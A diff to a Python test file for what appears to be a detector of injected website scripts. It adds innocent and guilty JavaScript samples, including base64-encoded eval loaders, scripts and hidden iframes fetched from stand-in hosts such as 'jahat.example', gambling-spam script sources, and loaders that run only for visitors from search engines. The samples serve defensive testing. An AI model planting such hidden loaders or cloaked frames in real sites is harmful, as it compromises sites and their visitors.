@@ -9,7 +9,8 @@ import pytest
 
 from tests.checks.content.reading import b64, hexed
 from tests.checks.content.scripting import EVIL, in_file, on_page
-from tests.checks.content.test_injected_script_whole import is_not_accused
+from tests.checks.content.test_injected_script_makers import pack
+from tests.checks.content.test_injected_script_whole import THEME, is_not_accused
 from tests.parse.test_scripts import codes
 
 HOST = "www.contohkab.go.id"
@@ -75,7 +76,9 @@ PLUGIN = f"""jQuery(function ($) {{
   $('.kartu h3').on('click', function () {{ buka($(this).closest('.kartu')); }});
   $('.cari input').on('input', function () {{
     var kata = $(this).val().toLowerCase();
-    $('.kartu').each(function () {{ $(this).toggle($(this).text().toLowerCase().indexOf(kata) >= 0); }});
+    $('.kartu').each(function () {{
+      $(this).toggle($(this).text().toLowerCase().indexOf(kata) >= 0);
+    }});
     $('.cari').attr('lang', pilihan.bahasa);
   }});
   $.getScript(pilihan.gudang + 'kabar.js');
@@ -119,6 +122,7 @@ ON_SCROLL = f"""(() => {{
     }}
   }});
 }})();"""
+CLEAR = CONSENT.replace(f"window.atob('{STATISTICS}')", "'/js/hitung.js'")
 ESCAPED = CONSENT.replace(f"window.atob('{STATISTICS}')", f'"{hexed(BASE + "t.js")}"')
 BACKWARDS = CONSENT.replace(
     f"window.atob('{STATISTICS}')", f"'{(BASE + 't.js')[::-1]}'.split('').reverse().join('')"
@@ -163,6 +167,14 @@ UNLOCK_NAMED = (
     "hasil+=String.fromCharCode(isi.charCodeAt(i)^kunci.charCodeAt(i%kunci.length))}"
     "try{new Function(hasil)()}catch(e){document.body.className+=' dasar'}"
 )
+SHELF = f"""jQuery(function($){{$('.baca').on('click',function(e){{e.preventDefault();
+$('#bingkai').html('<iframe src="{BASE}v?f='+encodeURIComponent(this.href)+'"STYLE></iframe>'
+).show();
+$('html,body').animate({{scrollTop:$('#bingkai').offset().top}},400)}});$('.kartu').each(
+function(){{$(this).toggleClass('genap')}})}});""".replace("\n", "")
+IN_SIGHT = SHELF.replace("STYLE", ' width="100%" height="600"')
+IN_CLASS = SHELF.replace("STYLE", ' class="lebar"')
+RUNS = "\neval(atob('{}'));"
 HONEST = {
     "a table of addresses": LISTS,
     "a class for documents": CLASS,
@@ -172,6 +184,11 @@ HONEST = {
     "leave for cookies, backwards": BACKWARDS,
     "a viewer once its shelf is seen": ON_SCROLL,
     "an object of a theme with its maker's host": BASE_PATH,
+    "a packed shelf of documents in frames": pack(IN_SIGHT),
+    "a packed shelf that a class gives its size": pack(IN_CLASS),
+    "a packed shelf of documents behind a program": CLEAR + "\n" + pack(IN_CLASS),
+    "an encoded shelf of documents": RUNS.format(b64(IN_SIGHT)),
+    "an encoded part behind a program": CLEAR + RUNS.format(b64(THEME)),
     "what is locked to the host": MENU + UNLOCK.replace("CODE", keyed(PREMIUM)),
     "what is locked to the host, its maker first": CONSENT.replace(STATISTICS, FONTS)
     + UNLOCK.replace("CODE", keyed(MAKER_FIRST)),
@@ -192,6 +209,10 @@ e.cookie=a+"=1; expires="+n.toUTCString()+"; path=/",t.addEventListener("load",f
 setTimeout(function(){{var a=e.createElement("script");a.src="{BASE}splash/"+t.splash.akun+".js?t="+
 Date.now(),a.onload=function(){{t.TampilSplash(t.splash)}},e.body.appendChild(a)}},t.splash.tunda)
 }})}}}}(window,document);"""
+SHORT_SPLASH = (
+    "t=window;s=document.createElement('script');s.src='https://jahat.example/'+t.splash.akun;"
+    "document.head.appendChild(s)"
+)
 RUN = 'var _p="{}";(0,eval)(window.atob(_p));'
 
 
@@ -215,8 +236,7 @@ def test_what_works_with_settings_of_the_page_needs_a_look(declared: str) -> Non
         (SPLASH.replace("/bot|crawl|spider|lighthouse/i.test(navigator.userAgent)",
                         "!/google|bing/.test(e.referrer)"), SETTINGS),
         # A short one, from the trade, and a frame out of sight.
-        ("t=window;s=document.createElement('script');s.src='https://jahat.example/'+t.splash.akun;"
-         "document.head.appendChild(s)", SETTINGS),
+        (SHORT_SPLASH, SETTINGS),
         (SPLASH.replace("aset.bengkelnaskah", "cdn.slot88gacor"), SETTINGS),
         (SPLASH.replace('a=e.createElement("script")',
                         'a=e.createElement("iframe");a.width=1;a.height=1'), SETTINGS),
@@ -229,8 +249,11 @@ def test_what_settings_do_not_explain_fails(source: str, beside: str) -> None:
 LOADER = (
     "var s=document.createElement('script');s.src=atob('{}');document.head.appendChild(s);"
 ).format(b64(f"{EVIL}/a.js"))
+FRAME = (
+    "var f=document.createElement('iframe');f.src='https://cdn.jahat.example/k.html';"
+    "document.body.appendChild(f)"
+)
 WRAPPED = f"(function(){{{LOADER}}})();"
-CLEAR = CONSENT.replace(f"window.atob('{STATISTICS}')", "'/js/hitung.js'")
 PLAIN = PLUGIN.replace(f"atob('{MAKER}')", "'/js/'")
 TO_ALL = CONSENT + f"location.href = atob('{b64(EVIL + '/x')}');"
 SEARCHED = CONSENT.replace(
@@ -257,6 +280,16 @@ GUILTY = {
     ),
     "a loader by a name that a program has for another thing": CLEAR
     + LOADER.replace("var s=", "var izin2=document;var s="),
+    "an encoded loader behind a program": CLEAR + RUNS.format(b64(LOADER)),
+    "a packed frame behind a program": CLEAR + "\n" + pack(FRAME),
+    "a packed shelf with a frame out of sight": pack(
+        SHELF.replace("STYLE", ' style="display:none"')
+    ),
+    "an encoded shelf with a frame out of sight": RUNS.format(
+        b64(SHELF.replace("STYLE", ' width="1" height="1"'))
+    ),
+    "an encoded part behind a program, for who comes from a search": CLEAR
+    + RUNS.format(b64(THEME.replace("var s=", "if(!/google|bing/.test(d.referrer))return;var s="))),
     "a program that loads from the trade": CONSENT.replace(
         STATISTICS, b64("https://cdn.slot88gacor.example/t.js")
     ),
